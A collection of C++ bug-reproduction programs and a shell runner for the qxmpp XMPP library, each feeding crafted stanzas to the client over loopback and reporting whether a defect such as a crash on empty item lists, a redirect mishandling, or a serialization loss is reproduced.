        QTimer::singleShot(200, &app, [&, msg]() {
            if (separateRead) {
                srv.sock->write(" ");
                srv.sock->flush();
                QTimer::singleShot(300, &app, [&, msg]() {
                    if (srv.sock->state() == QAbstractSocket::ConnectedState) { srv.sock->write(msg); srv.sock->flush(); }
                });
            } else {
                srv.sock->write(" " + msg);
                srv.sock->flush();
            }
        });
    });
    client.connectToServer(cfg);
    QTimer::singleShot(2000, &app, &QCoreApplication::quit);
    app.exec();
    printf("detail: keep-alive blank %s: messages delivered %d, disconnected() emitted %d, still connected %d\n",
           separateRead ? "in a read of its own" : "in one read with the stanza", messages, disconnects, int(client.isConnected()));
    return (messages == 1 && disconnects == 0) ? 0 : 1;
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const int together = run(app, false);
    const int separate = run(app, true);
    if (together == 0 && separate != 0) {
        printf("REPRODUCED: the same stream is delivered when the blank shares a read with the stanza, and ends the connection when the blank is read alone\n");
        fflush(stdout);
        _Exit(1);
    }
    printf(together == 0 ? "not reproduced\n" : "not reproduced: the control (one read) did not deliver the message\n");
    fflush(stdout);
    _Exit(0);
}
