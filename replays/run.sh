#!/bin/sh
# Build and run the concrete replays against a qxmpp source/build tree.
#   replays/run.sh [filter] [src=/repo] [build=/repo/_build]
# Each replay exits 1 and prints REPRODUCED when the defect is present, 0 and "not reproduced" otherwise.
filter="${1:-}"; src="${2:-/repo}"; bld="${3:-/repo/_build}"
here="$(cd "$(dirname "$0")" && pwd)"
tmp="$(mktemp -d /tmp/qxv-replays.XXXXXX)"
trap 'rm -rf "$tmp"' EXIT
cmake -S "$here" -B "$tmp" -G Ninja -DQXMPP_SRC="$src" -DQXMPP_BUILD="$bld" >/dev/null || exit 2
targets=""
for f in "$here"/replay_*"$filter"*.cpp; do targets="$targets $(basename "$f" .cpp)"; done
ninja -C "$tmp" $targets >"$tmp/build.log" 2>&1 || { tail -40 "$tmp/build.log"; exit 2; }
rc=0
for t in $targets; do
    echo "== $t"
    LD_LIBRARY_PATH="$bld/src" QT_QPA_PLATFORM=offscreen timeout 200 "$tmp/$t" 2>&1 | grep -E "REPRODUCED|not reproduced|FAIL|detail:|: in sensitive part|   pass " 
done
exit 0
