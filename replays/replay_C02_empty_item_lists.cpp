// C02.R10: three places take the first element of a list that comes from the input without looking whether there is one:
//  (a) QXmppMixManager::handlePubSubEvent for a configuration / information event whose <items/> has no <item/>,
//  (b) QXmppMixManager::requestChannelConfiguration / requestChannelInformation for an <items/> result without <item/>,
//  (c) QXmppRemoteMethod::gotResult for an XML-RPC response without <param/>.
// Each case runs in a child process: taking the first element of an empty QVector/QList reads outside the container (Q_ASSERT in debug builds).
#include "QXmppMixManager.h"
#include "QXmppPubSubManager.h"
#include "QXmppPubSubEventHandler.h"
#include "QXmppDiscoveryManager.h"
#include "QXmppRemoteMethod.h"
#include "QXmppRpcIq.h"
#include "TestClient.h"
#include "util.h"
#include <QTimer>
#include <cstdio>
#include <cstdlib>
#include <sys/wait.h>
#include <unistd.h>

static int run_case(int which)
{
    TestClient test;
    test.configuration().setJid("hag66@shakespeare.example/UUID-a1j/7533");
    test.addNewExtension<QXmppDiscoveryManager>();
    test.addNewExtension<QXmppPubSubManager>();
    auto *mix = test.addNewExtension<QXmppMixManager>();
    int updates = 0;
    QObject::connect(mix, &QXmppMixManager::channelConfigurationUpdated, [&](const QString &, const QXmppMixConfigItem &) { updates++; });
    QObject::connect(mix, &QXmppMixManager::channelInformationUpdated, [&](const QString &, const QXmppMixInfoItem &) { updates++; });
    if (which == 0) {
        static_cast<QXmppPubSubEventHandler *>(mix)->handlePubSubEvent(xmlToDom(QStringLiteral("<message from='coven@mix.shakespeare.example' to='hag66@shakespeare.example' type='headline'>"
                                   "<event xmlns='http://jabber.org/protocol/pubsub#event'><items node='urn:xmpp:mix:nodes:config'/></event></message>")),
                                                                       QStringLiteral("coven@mix.shakespeare.example"), QStringLiteral("urn:xmpp:mix:nodes:config"));
    } else if (which == 1) {
        static_cast<QXmppPubSubEventHandler *>(mix)->handlePubSubEvent(xmlToDom(QStringLiteral("<message from='coven@mix.shakespeare.example' to='hag66@shakespeare.example' type='headline'>"
                                   "<event xmlns='http://jabber.org/protocol/pubsub#event'><items node='urn:xmpp:mix:nodes:info'/></event></message>")),
                                                                       QStringLiteral("coven@mix.shakespeare.example"), QStringLiteral("urn:xmpp:mix:nodes:info"));
    } else if (which == 2) {
        auto task = mix->requestChannelConfiguration("coven@mix.shakespeare.example");
        test.ignore();
        test.inject(QStringLiteral("<iq id='qxmpp1' from='coven@mix.shakespeare.example' type='result'>"
                                   "<pubsub xmlns='http://jabber.org/protocol/pubsub'><items node='urn:xmpp:mix:nodes:config'/></pubsub></iq>"));
        QCoreApplication::processEvents();
        printf("detail: requestChannelConfiguration finished=%d\n", task.isFinished());
    } else {
        QXmppRemoteMethod method("a@b/c", "m", {}, &test);
        // call() spins an event loop until the answer arrives: answer the request it sent with a response that has no <param/>
        QTimer::singleShot(50, &test, [&]() {
            const QString sent = test.takeLastPacket();
            const int at = sent.indexOf("id=\"");
            const QString id = sent.mid(at + 4, sent.indexOf('"', at + 4) - at - 4);
            QXmppRpcResponseIq iq;
            parsePacket(iq, QStringLiteral("<iq id='%1' from='a@b/c' type='result'><query xmlns='jabber:iq:rpc'><methodResponse><params/></methodResponse></query></iq>").arg(id).toUtf8());
            QMetaObject::invokeMethod(&method, "gotResult", Q_ARG(QXmppRpcResponseIq, iq));
        });
        method.call();
    }
    if (which < 2 && updates) {
        printf("detail: an update was reported although the event carried no item (the item handed to the application was read from an empty list)\n");
        fflush(stdout);
        return 3;
    }
    return 0;
}

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const char *names[] = { "MIX configuration event without <item/>", "MIX information event without <item/>", "MIX configuration result without <item/>", "XML-RPC response without <param/>" };
    int crashed = 0;
    for (int which = 0; which < 4; which++) {
        fflush(stdout);
        pid_t pid = fork();
        if (pid == 0) {
            _Exit(run_case(which));
        }
        int status = 0;
        waitpid(pid, &status, 0);
        const bool bad = !WIFEXITED(status) || WEXITSTATUS(status) != 0;
        printf("detail: %s -> %s\n", names[which], bad ? "child process died" : "handled");
        if (bad) crashed++;
    }
    if (crashed) { printf("REPRODUCED: %d of 4 inputs without items crash the client\n", crashed); return 1; }
    printf("not reproduced\n");
    return 0;
}
