// C02 (one parse/serialize pass is a fix-point) for odd but well-formed time values: <tzo>+24:00</tzo> and a five-digit year.
#include "QXmppEntityTimeIq.h"
#include "QXmppMessage.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>

template<typename T>
static QByteArray pass(const QByteArray &xml)
{
    QDomDocument doc;
    doc.setContent(xml, true);
    T obj;
    obj.parse(doc.documentElement());
    QByteArray out;
    QXmlStreamWriter w(&out);
    obj.toXml(&w);
    return out;
}

template<typename T>
static int probe(const char *what, const QByteArray &xml)
{
    const QByteArray d1 = pass<T>(xml);
    const QByteArray d2 = pass<T>(d1);
    const QByteArray d3 = pass<T>(d2);
    printf("detail: %s\n   pass 1: %s\n   pass 2: %s\n   pass 3: %s\n", what, d1.constData(), d2.constData(), d3.constData());
    return d1 == d2 ? 0 : 1;
}

int main()
{
    int bad = 0;
    bad += probe<QXmppEntityTimeIq>("<tzo>+24:00</tzo>", "<iq xmlns='jabber:client' id='t1' type='result'><time xmlns='urn:xmpp:time'><tzo>+24:00</tzo><utc>2020-01-01T00:00:00Z</utc></time></iq>");
    bad += probe<QXmppEntityTimeIq>("<tzo>-13:45</tzo>", "<iq xmlns='jabber:client' id='t1' type='result'><time xmlns='urn:xmpp:time'><tzo>-13:45</tzo><utc>2020-01-01T00:00:00Z</utc></time></iq>");
    bad += probe<QXmppEntityTimeIq>("<tzo>+99:99</tzo>", "<iq xmlns='jabber:client' id='t1' type='result'><time xmlns='urn:xmpp:time'><tzo>+99:99</tzo><utc>2020-01-01T00:00:00Z</utc></time></iq>");
    bad += probe<QXmppMessage>("delay stamp in year 10000", "<message xmlns='jabber:client' type='chat'><body>x</body><delay xmlns='urn:xmpp:delay' stamp='10000-01-01T00:00:00Z'/></message>");
    bad += probe<QXmppMessage>("delay stamp with 4 ms", "<message xmlns='jabber:client' type='chat'><body>x</body><delay xmlns='urn:xmpp:delay' stamp='2020-01-01T00:00:00.004Z'/></message>");
    if (bad) {
        printf("REPRODUCED: %d value(s) for which the output of one parse/serialize pass is not reproduced by the next pass\n", bad);
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
