// C01: four concrete round-trip losses found by the codec agreement rules.
#include "QXmppIq.h"
#include "QXmppMamIq.h"
#include "QXmppStreamManagement_p.h"
#include "QXmppUtils_p.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>
using namespace QXmpp::Private;
template<class T> static QByteArray ser(const T &t) { QByteArray b; QXmlStreamWriter w(&b); t.toXml(&w); return b; }
static QDomElement dom(const QByteArray &xml) { static QList<QDomDocument> keep; QDomDocument d; d.setContent(xml, true); keep << d; return d.documentElement(); }
int main()
{
    int bad = 0;
    // R2: SmEnabled root
    SmEnabled en { true, "id1", 10, "loc" };
    auto x = ser(en);
    if (!SmEnabled::fromDom(dom(x))) { bad++; printf("REPRODUCED: SmEnabled serializes as %s which SmEnabled::fromDom rejects\n", x.constData()); }
    // R1: MAM queryid
    QXmppMamQueryIq q; q.setQueryId("qid7"); q.setType(QXmppIq::Set);
    QXmppMamQueryIq q2; q2.parse(dom(ser(q)));
    if (q2.queryId() != "qid7") { bad++; printf("REPRODUCED: QXmppMamQueryIq query id lost on round trip ('%s')\n", qPrintable(q2.queryId())); }
    // R4: uint8 range
    if (!parseInt<uint8_t>(u"200")) { bad++; printf("REPRODUCED: parseInt<uint8_t>(\"200\") is rejected\n"); }
    // R5: error duplicated
    QXmppIq iq; iq.parse(dom("<iq type='error' id='a'><error type='cancel'><item-not-found xmlns='urn:ietf:params:xml:ns:xmpp-stanzas'/></error></iq>"));
    auto once = ser(iq);
    QXmppIq iq2; iq2.parse(dom(once));
    auto twice = ser(iq2);
    if (once.count("<error") != 1 || twice != once) { bad++; printf("REPRODUCED: generic error IQ grows per pass: %d then %d <error/> children\n", once.count("<error"), twice.count("<error")); }
    if (!bad) printf("not reproduced: all four round trips are lossless\n");
    return bad ? 1 : 0;
}
