// C10 (per-connection state is reset per connection): a <see-other-host/> stream error received on an ESTABLISHED session makes
// _q_socketDisconnected() connect to the new host without closing the session: sessionStarted stays true, so the client reports
// isConnected() as soon as the TCP connection to the new host exists - before any authentication there - no disconnected() is
// emitted for the session that ended, and the new negotiation ends in a second "session established".
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>
#include <cstdlib>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    ScriptedServer a, b;
    const QByteArray header = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    a.on("<stream:stream", header + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms></stream:features>");
    a.on("<auth", "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
    a.on("<stream:stream", header + "<stream:features><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></stream:features>");
    a.on("<bind", "<iq type='result' id='@ID@'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><jid>romeo@localhost/r</jid></bind></iq>");
    // the second host answers the stream header and then stays silent: the client is connected on TCP level, not authenticated
    b.on("<stream:stream", header + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms></stream:features>");
    QXmppClient client;
    client.logger()->setLoggingType(QXmppLogger::NoLogging);
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(a.port());
    cfg.setJid("romeo@localhost/r");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    cfg.setAutoReconnectionEnabled(false);
    int connects = 0, disconnects = 0;
    QObject::connect(&client, &QXmppClient::connected, [&]() {
        connects++;
        if (connects == 1) {
            QTimer::singleShot(200, &app, [&]() {
                a.sock->write("<stream:error><see-other-host xmlns='urn:ietf:params:xml:ns:xmpp-streams'>127.0.0.1:" + QByteArray::number(b.port()) +
                              "</see-other-host></stream:error>");
                a.sock->flush();
            });
        }
    });
    QObject::connect(&client, &QXmppClient::disconnected, [&]() { disconnects++; });
    client.connectToServer(cfg);
    bool reportedConnected = false, onSecondHost = false;
    QTimer::singleShot(1500, &app, [&]() {
        onSecondHost = b.sock != nullptr && b.received.contains("<auth");
        reportedConnected = client.isConnected();
        app.quit();
    });
    app.exec();
    printf("detail: sessions announced %d, disconnected() emitted %d; on the second host the client got as far as <auth/>: %d (unanswered); isConnected() there: %d\n",
           connects, disconnects, int(onSecondHost), int(reportedConnected));
    if (connects == 1 && onSecondHost && reportedConnected) {
        printf("REPRODUCED: after the redirect the client reports an established session on a host it has not authenticated to%s\n",
               disconnects == 0 ? ", and the end of the first session was never announced" : "");
        fflush(stdout);
        _Exit(1);
    }
    printf(onSecondHost ? "not reproduced\n" : "not reproduced: the redirect was not followed\n");
    fflush(stdout);
    _Exit(0);
}
