// C07.R1 (exactly once under re-entrancy): OutgoingIqManager::handleStanza completes a request while its entry is still in the table. A continuation that
// ends the session (disconnectFromServer(): the socket closes synchronously, closeSession() -> cancelAll()) finds the entry still pending: the request is
// completed a second time ("IQ has been cancelled"), and the erase that follows in handleStanza uses an iterator of the table cancelAll() has cleared.
#include "QXmppClient.h"
#include "QXmppConfiguration.h"
#include "QXmppIq.h"
#include "QXmppTask.h"
#include <QDomElement>
#include "QXmppVersionIq.h"
#include "ScriptedServer.h"
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>
#include <cstdlib>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    ScriptedServer srv;
    const QByteArray header = "<?xml version='1.0'?><stream:stream xmlns='jabber:client' xmlns:stream='http://etherx.jabber.org/streams' id='s1' from='localhost' version='1.0'>";
    srv.on("<stream:stream", header + "<stream:features><mechanisms xmlns='urn:ietf:params:xml:ns:xmpp-sasl'><mechanism>PLAIN</mechanism></mechanisms></stream:features>");
    srv.on("<auth", "<success xmlns='urn:ietf:params:xml:ns:xmpp-sasl'/>");
    srv.on("<stream:stream", header + "<stream:features><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'/></stream:features>");
    srv.on("<bind", "<iq type='result' id='@ID@'><bind xmlns='urn:ietf:params:xml:ns:xmpp-bind'><jid>romeo@localhost/r</jid></bind></iq>");
    srv.on("jabber:iq:version", "<iq type='result' id='@ID@' from='localhost'><query xmlns='jabber:iq:version'><name>srv</name></query></iq>");
    QXmppClient client;
    client.logger()->setLoggingType(QXmppLogger::NoLogging);
    QXmppConfiguration cfg;
    cfg.setHost("127.0.0.1");
    cfg.setPort(srv.port());
    cfg.setJid("romeo@localhost/r");
    cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    cfg.setAutoReconnectionEnabled(false);
    int completions = 0;
    QStringList what;
    QObject::connect(&client, &QXmppClient::connected, [&]() {
        QXmppVersionIq request;
        request.setType(QXmppIq::Get);
        request.setTo("localhost");
        client.sendIq(std::move(request)).then(&client, [&](QXmppClient::IqResult &&result) {
            completions++;
            what << (std::holds_alternative<QXmppError>(result) ? std::get<QXmppError>(result).description : QStringLiteral("result element"));
            if (completions == 1) {
                client.disconnectFromServer();      // the application reacts to the answer by logging out
            }
            if (completions > 1) {
                printf("detail: the request was completed %d times: %s\n", completions, qPrintable(what.join(" / ")));
                printf("REPRODUCED: one request, one reply, %d completions (the second from cancelAll() re-entered through the first)\n", completions);
                fflush(stdout);
                _Exit(1);
            }
        });
    });
    client.connectToServer(cfg);
    QTimer::singleShot(2500, &app, &QCoreApplication::quit);
    app.exec();
    printf("detail: the request was completed %d time(s): %s\n", completions, qPrintable(what.join(" / ")));
    if (completions == 1) { printf("not reproduced\n"); fflush(stdout); _Exit(0); }
    printf("not reproduced: request never completed (script did not run: %d steps); client sent: %s\n", srv.step, srv.received.right(400).constData());
    fflush(stdout);
    _Exit(0);
}
