// C02 (whatever was parsed serializes to well-formed XML; one pass is a fix-point): QXmppMessage::parseExtension cuts the XHTML-IM body
// out of the saved text by removing the first start tag and EVERY "</body>". An inner <body/> element - or the text "</body>" inside a
// CDATA section - loses its end tag / its text, and the message serializes to a document that is not well-formed (or to other content).
#include "QXmppMessage.h"
#include <QDomDocument>
#include <QXmlStreamWriter>
#include <cstdio>

static QByteArray roundtrip(const QByteArray &xml, bool *wellFormed, QString *xhtml)
{
    QDomDocument doc;
    doc.setContent(xml, true);
    QXmppMessage m;
    m.parse(doc.documentElement());
    *xhtml = m.xhtml();
    QByteArray out;
    QXmlStreamWriter w(&out);
    m.toXml(&w);
    QDomDocument again;
    *wellFormed = bool(again.setContent(out, true));
    return out;
}

int main()
{
    int bad = 0;
    bool ok;
    QString x;
    const QByteArray nested = "<message xmlns='jabber:client' type='chat'><html xmlns='http://jabber.org/protocol/xhtml-im'>"
                              "<body xmlns='http://www.w3.org/1999/xhtml'><p>a</p><body><p>b</p></body></body></html></message>";
    QByteArray out = roundtrip(nested, &ok, &x);
    printf("detail: nested <body/>: xhtml()=\"%s\"; serialized message well-formed: %d\n", qPrintable(x), int(ok));
    if (!ok) bad++;
    const QByteArray cdata = "<message xmlns='jabber:client' type='chat'><html xmlns='http://jabber.org/protocol/xhtml-im'>"
                             "<body xmlns='http://www.w3.org/1999/xhtml'><p><![CDATA[the tag </body> ends it]]></p></body></html></message>";
    out = roundtrip(cdata, &ok, &x);
    const bool kept = x.contains(QStringLiteral("body"));
    printf("detail: text \"</body>\" inside the paragraph: xhtml()=\"%s\"; well-formed: %d; text kept: %d\n", qPrintable(x), int(ok), int(kept));
    if (!ok || !kept) bad++;
    const QByteArray plain = "<message xmlns='jabber:client' type='chat'><html xmlns='http://jabber.org/protocol/xhtml-im'>"
                             "<body xmlns='http://www.w3.org/1999/xhtml'><p>plain</p></body></html></message>";
    out = roundtrip(plain, &ok, &x);
    if (!ok || x != QStringLiteral("<p>plain</p>")) { printf("control failed: %s\n", qPrintable(x)); return 2; }
    if (bad) {
        printf("REPRODUCED: %d well-formed message(s) with an unusual XHTML body come out of parse + serialize malformed or altered\n", bad);
        return 1;
    }
    printf("not reproduced\n");
    return 0;
}
