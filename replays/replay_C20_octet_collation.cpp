// C20.R5: XEP-0115 §5.1 sorts with the i;octet collation (byte order of the UTF-8 form). QString's operator< orders by UTF-16
// code unit, which differs for supplementary-plane characters (surrogates 0xD800.. sort before U+E000..U+FFFF, while their
// UTF-8 form F0.. sorts after EF..). An independent implementation of the XEP algorithm is compared with verificationString().
#include "QXmppDataForm.h"
#include "QXmppDiscoveryIq.h"
#include <QCryptographicHash>
#include <algorithm>
#include <cstdio>

static QByteArray reference(QList<QXmppDiscoveryIq::Identity> ids, QStringList features, const QXmppDataForm &form)
{
    QList<QByteArray> idl, fl;
    for (const auto &i : ids) idl << (i.category() + '/' + i.type() + '/' + i.language() + '/' + i.name()).toUtf8();
    // identities are sorted by category, type, lang, name: '/' (0x2F) never occurs before... use tuple compare on utf8 parts
    std::sort(ids.begin(), ids.end(), [](const auto &a, const auto &b) {
        return std::make_tuple(a.category().toUtf8(), a.type().toUtf8(), a.language().toUtf8(), a.name().toUtf8()) <
            std::make_tuple(b.category().toUtf8(), b.type().toUtf8(), b.language().toUtf8(), b.name().toUtf8());
    });
    QByteArray S;
    for (const auto &i : ids) S += (i.category() + '/' + i.type() + '/' + i.language() + '/' + i.name()).toUtf8() + '<';
    for (const auto &f : features) fl << f.toUtf8();
    std::sort(fl.begin(), fl.end());
    fl.erase(std::unique(fl.begin(), fl.end()), fl.end());
    for (const auto &f : fl) S += f + '<';
    if (!form.isNull()) {
        QMap<QByteArray, QList<QByteArray>> m;
        QByteArray ft;
        for (const auto &f : form.fields()) {
            QList<QByteArray> vs;
            for (const auto &v : f.value().toStringList()) vs << v.toUtf8();
            std::sort(vs.begin(), vs.end());
            if (f.key() == "FORM_TYPE") ft = f.value().toString().toUtf8(); else m[f.key().toUtf8()] = vs;
        }
        S += ft + '<';
        for (auto it = m.begin(); it != m.end(); ++it) { S += it.key() + '<'; for (const auto &v : it.value()) S += v + '<'; }
    }
    return QCryptographicHash::hash(S, QCryptographicHash::Sha1);
}

int main()
{
    const QString bmp = QString(QChar(0xFFFD));            // EF BF BD
    const QString astral = QString::fromUcs4(U"\U0001F600"); // F0 9F 98 80 ; UTF-16 D83D DE00
    int bad = 0;
    {
        QXmppDiscoveryIq iq;
        QXmppDiscoveryIq::Identity a, b;
        a.setCategory("client"); a.setType("pc"); a.setName(bmp);
        b.setCategory("client"); b.setType("pc"); b.setName(astral);
        iq.setIdentities({a, b});
        iq.setFeatures({"http://jabber.org/protocol/caps"});
        bool eq = iq.verificationString() == reference(iq.identities(), iq.features(), iq.form());
        printf("detail: identities named U+FFFD and U+1F600: library %s reference\n", eq ? "==" : "!=");
        bad += !eq;
    }
    {
        QXmppDiscoveryIq iq;
        iq.setFeatures({"urn:x:" + bmp, "urn:x:" + astral});
        bool eq = iq.verificationString() == reference(iq.identities(), iq.features(), iq.form());
        printf("detail: features urn:x:U+FFFD and urn:x:U+1F600: library %s reference\n", eq ? "==" : "!=");
        bad += !eq;
    }
    {
        QXmppDiscoveryIq iq;
        QXmppDataForm form;
        QXmppDataForm::Field t(QXmppDataForm::Field::HiddenField); t.setKey("FORM_TYPE"); t.setValue("urn:xmpp:dataforms:softwareinfo");
        QXmppDataForm::Field m(QXmppDataForm::Field::ListMultiField); m.setKey("os"); m.setValue(QStringList { astral, bmp });
        form.setType(QXmppDataForm::Result);
        form.setFields({t, m});
        iq.setForm(form);
        bool eq = iq.verificationString() == reference(iq.identities(), iq.features(), iq.form());
        printf("detail: multi-value U+1F600,U+FFFD: library %s reference\n", eq ? "==" : "!=");
        bad += !eq;
    }
    {   // control: plain ASCII data agrees
        QXmppDiscoveryIq iq;
        iq.setFeatures({"b", "a", "b"});
        bool eq = iq.verificationString() == reference(iq.identities(), iq.features(), iq.form());
        printf("detail: ASCII control: library %s reference\n", eq ? "==" : "!=");
        if (!eq) { printf("detail: reference implementation disagrees on ASCII: replay invalid\n"); return 2; }
    }
    if (bad) { printf("REPRODUCED: %d info sets hash differently from the XEP-0115 i;octet ordering\n", bad); return 1; }
    printf("not reproduced: library agrees with the i;octet reference\n");
    return 0;
}
