// C19.R1: the IBB block counter is an int while the wire field is 16 bit: a transfer of more than 65536 blocks fails
// (the sender's seq wraps to 0, the receiver expects 65536). The sender's device hands out one byte per read so that
// 65540 blocks are needed.
#include "QXmppClient.h"
#include "QXmppServer.h"
#include "QXmppTransferManager.h"
#include "util.h"
#include <QBuffer>
#include <QCoreApplication>
#include <QTimer>
#include <cstdio>

class Trickle : public QIODevice
{
public:
    qint64 remaining;
    explicit Trickle(qint64 n) : remaining(n) { open(QIODevice::ReadOnly); }
    bool isSequential() const override { return true; }
    qint64 bytesAvailable() const override { return remaining + QIODevice::bytesAvailable(); }
protected:
    qint64 readData(char *data, qint64 maxlen) override
    {
        if (remaining <= 0 || maxlen <= 0) return 0;
        data[0] = char('a' + remaining % 26);
        remaining--;
        return 1;
    }
    qint64 writeData(const char *, qint64) override { return -1; }
};

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    const qint64 total = 65540;
    TestPasswordChecker checker;
    checker.addCredentials("sender", "pw");
    checker.addCredentials("receiver", "pw");
    QXmppLogger logger;
    QXmppServer server;
    server.setDomain("localhost");
    server.setLogger(&logger);
    server.setPasswordChecker(&checker);
    server.listenForClients(QHostAddress::LocalHost, 45223);

    auto connectClient = [&](QXmppClient &c, const QString &user) {
        QXmppConfiguration cfg;
        cfg.setDomain("localhost");
        cfg.setHost("127.0.0.1");
        cfg.setPort(45223);
        cfg.setUser(user);
        cfg.setPassword("pw");
        cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
        cfg.setDisabledSaslMechanisms({});
        c.setLogger(&logger);
        QEventLoop loop;
        QObject::connect(&c, &QXmppClient::connected, &loop, &QEventLoop::quit);
        QTimer::singleShot(5000, &loop, &QEventLoop::quit);
        c.connectToServer(cfg);
        loop.exec();
        return c.isConnected();
    };
    QXmppClient sender, receiver;
    auto *sm = new QXmppTransferManager;
    sm->setSupportedMethods(QXmppTransferJob::InBandMethod);
    sender.addExtension(sm);
    auto *rm = new QXmppTransferManager;
    rm->setSupportedMethods(QXmppTransferJob::InBandMethod);
    receiver.addExtension(rm);
    QBuffer sink;
    QXmppTransferJob *rjob = nullptr;
    QObject::connect(rm, &QXmppTransferManager::fileReceived, [&](QXmppTransferJob *job) { rjob = job; sink.open(QIODevice::WriteOnly); job->accept(&sink); });
    if (!connectClient(sender, "sender") || !connectClient(receiver, "receiver")) { printf("detail: could not connect clients\n"); return 2; }
    Trickle src(total);
    QXmppTransferFileInfo info;
    info.setName("big.bin");
    info.setSize(total);
    auto *sjob = sm->sendFile(receiver.configuration().jid(), &src, info);
    QEventLoop loop;
    QObject::connect(sjob, &QXmppTransferJob::finished, &loop, &QEventLoop::quit);
    QTimer::singleShot(170000, &loop, &QEventLoop::quit);
    loop.exec();
    QCoreApplication::processEvents();
    printf("detail: sender state=%d error=%d; receiver got %lld of %lld bytes, receiver error=%d\n", int(sjob->state()), int(sjob->error()),
           (long long)sink.data().size(), (long long)total, rjob ? int(rjob->error()) : -1);
    if (sjob->error() != QXmppTransferJob::NoError || sink.data().size() != total) {
        printf("REPRODUCED: an in-band transfer of more than 65536 blocks fails after %lld blocks\n", (long long)sink.data().size());
        return 1;
    }
    printf("not reproduced: %lld one-byte blocks transferred and verified\n", (long long)total);
    return 0;
}
