// C20.R4: the initial presence sent when the stream becomes connected carries the hash computed in connectToServer().
// An extension registered between connectToServer() and the session start is answered in disco#info but not covered by
// the advertised hash. The presence is read from the wire log; the disco#info answer is requested over the wire from
// the client's own full JID.
#include "QXmppClient.h"
#include "QXmppDiscoveryIq.h"
#include "QXmppDiscoveryManager.h"
#include "QXmppMucManager.h"
#include "QXmppServer.h"
#include "util.h"
#include <QCoreApplication>
#include <QRegularExpression>
#include <QTimer>
#include <cstdio>

int main(int argc, char **argv)
{
    QCoreApplication app(argc, argv);
    TestPasswordChecker checker;
    checker.addCredentials("alice", "pw");
    QXmppLogger serverLogger;
    QXmppServer server;
    server.setDomain("localhost");
    server.setLogger(&serverLogger);
    server.setPasswordChecker(&checker);
    server.listenForClients(QHostAddress::LocalHost, 45224);

    QXmppLogger logger;
    logger.setLoggingType(QXmppLogger::SignalLogging);
    QByteArray advertised;
    QObject::connect(&logger, &QXmppLogger::message, &app, [&](QXmppLogger::MessageType type, const QString &text) {
        if (type == QXmppLogger::SentMessage && text.startsWith("<presence") && advertised.isEmpty()) {
            auto m = QRegularExpression("ver=\"([^\"]*)\"").match(text);
            if (m.hasMatch()) advertised = QByteArray::fromBase64(m.captured(1).toLatin1());
        }
    });
    QXmppClient client;
    client.setLogger(&logger);
    QXmppConfiguration cfg;
    cfg.setDomain("localhost"); cfg.setHost("127.0.0.1"); cfg.setPort(45224); cfg.setUser("alice"); cfg.setPassword("pw");
    cfg.setStreamSecurityMode(QXmppConfiguration::TLSDisabled);
    cfg.setDisabledSaslMechanisms({});
    client.connectToServer(cfg);
    client.addExtension(new QXmppMucManager);   // registered after connectToServer(), before the session exists

    QEventLoop loop;
    QObject::connect(&client, &QXmppClient::connected, &loop, &QEventLoop::quit);
    QTimer::singleShot(5000, &loop, &QEventLoop::quit);
    loop.exec();
    if (!client.isConnected()) { printf("detail: could not connect\n"); return 2; }
    auto *disco = client.findExtension<QXmppDiscoveryManager>();
    QByteArray answered;
    QObject::connect(disco, &QXmppDiscoveryManager::infoReceived, &app, [&](const QXmppDiscoveryIq &iq) {
        if (iq.from() == client.configuration().jid()) { answered = iq.verificationString(); loop.quit(); }
    });
    disco->requestInfo(client.configuration().jid());
    QTimer::singleShot(5000, &loop, &QEventLoop::quit);
    loop.exec();
    if (advertised.isEmpty() || answered.isEmpty()) { printf("detail: presence hash (%d bytes) or disco#info answer (%d bytes) not observed\n", advertised.size(), answered.size()); return 2; }
    printf("detail: advertised ver=%s, hash of the disco#info answer=%s\n", advertised.toBase64().constData(), answered.toBase64().constData());
    if (advertised != answered) {
        printf("REPRODUCED: the initial presence advertises a hash that is not the hash of the client's disco#info answer\n");
        return 1;
    }
    printf("not reproduced: advertised hash equals the hash of the disco#info answer\n");
    return 0;
}
