// A loopback TCP server that plays a script against the real client: for each rule
// (substring seen in the bytes received since the last reply -> bytes to send).
#pragma once
#include <QTcpServer>
#include <QTcpSocket>
#include <QList>
#include <QPair>

class ScriptedServer : public QObject
{
public:
    QTcpServer server;
    QTcpSocket *sock = nullptr;
    QByteArray received;      // everything the client ever sent, in clear
    QByteArray pending;
    QList<QPair<QByteArray, QByteArray>> script;
    int step = 0;

    ScriptedServer()
    {
        server.listen(QHostAddress::LocalHost, 0);
        connect(&server, &QTcpServer::newConnection, this, [this]() {
            sock = server.nextPendingConnection();
            connect(sock, &QTcpSocket::readyRead, this, [this]() {
                auto data = sock->readAll();
                received += data;
                pending += data;
                while (step < script.size() && pending.contains(script[step].first)) {
                    // "@ID@" in a reply stands for the id attribute of the last <iq/> the client sent
                    QByteArray lastId;
                    if (int at = pending.lastIndexOf("<iq id=\""); at >= 0) {
